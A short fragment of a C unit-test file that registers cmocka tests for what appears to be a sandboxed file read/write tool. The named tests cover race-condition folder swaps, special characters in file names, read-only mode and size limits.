		T(test_swap_folder_between_check_and_write),
		TW(test_swap_folder_between_check_and_write),
		T(test_swap_after_open_reads_inside),
		TW(test_swap_after_open_reads_inside),
		T(test_name_dollar_paren),
		T(test_name_backtick),
		T(test_name_semicolon),
		T(test_name_newline),
		T(test_name_nul),
		T(test_write_makes_folders),
		TW(test_write_makes_folders),
		T(test_write_replaces_keeps_mode),
		T(test_write_base64),
		T(test_write_failure_leaves_no_temp),
		T(test_readonly_refuses_writes),
		T(test_guard_blocks_and_posts_event),
		T(test_event_path_bounded),
		T(test_supervised_yes_no_none),
		T(test_size_limit_edges),
		T(test_read_encodings_and_kinds),
		TW(test_read_encodings_and_kinds),
		T(test_excluded_hidden_and_refused),
		T(test_search_glob_binary_truncated),
		cmocka_unit_test(test_diff),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
